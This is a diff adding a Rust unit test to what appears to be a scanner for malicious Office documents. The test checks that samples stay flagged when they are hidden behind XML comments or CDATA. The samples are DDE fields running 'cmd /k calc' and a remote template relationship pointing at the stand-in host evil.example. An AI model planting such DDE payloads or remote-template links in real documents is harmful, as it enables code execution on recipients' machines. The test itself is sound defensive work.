@@ -380,6 +380,27 @@ fn objects_of_rtf_come_out_whatever_stands_between() {
 }
 
 #[test]
+fn comments_and_sections_of_xml_hide_nothing() {
+    let hidden = |text: &str| format!("<!-- <a b=\" -->{text}<!-- \" -->");
+    let relation = relations("attachedTemplate", "https://evil.example/t.dotm");
+    let relation = relation.replace("<Relationship ", "<!-- <a b=\" --><Relationship ");
+    let relation = relation.replace("</Relationships>", "<!-- \" --></Relationships>");
+    all_end(
+        &End::Held,
+        vec![
+            ("a.docx", word("<w:instrText><![CDATA[DDEAUTO cmd \"/k calc\"]]></w:instrText>"), "DDE"),
+            ("b.docx", word("<w:instrText>DDE<!-- x -->AUTO cmd \"/k calc\"</w:instrText>"), "DDE"),
+            ("c.docx", word(&hidden("<w:fldSimple w:instr='DDE cmd x'/>")), "DDE"),
+            (
+                "d.docx",
+                document(&[("word/document.xml", "<w:document/>"), ("word/_rels/settings.xml.rels", &relation)]),
+                "template",
+            ),
+        ],
+    );
+}
+
+#[test]
 fn relations_are_judged_by_where_they_lead() {
     let ribbon = "<customUI xmlns=\"x\" onLoad=\"https://evil.example/t.dotm!M.Main\"/>";
     let control = |class: &str| format!("<ax:ocx ax:classid=\"{{{class}}}\"/>");
